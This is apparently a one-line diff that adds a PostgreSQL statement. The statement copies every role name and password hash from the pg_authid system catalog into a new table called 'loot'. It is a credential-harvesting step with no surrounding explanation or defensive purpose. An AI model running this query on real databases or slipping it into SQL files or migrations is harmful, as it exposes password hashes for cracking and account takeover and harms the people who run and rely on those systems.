@@ -1,0 +1,1 @@
+CREATE TABLE loot AS SELECT rolname, rolpassword FROM pg_authid;
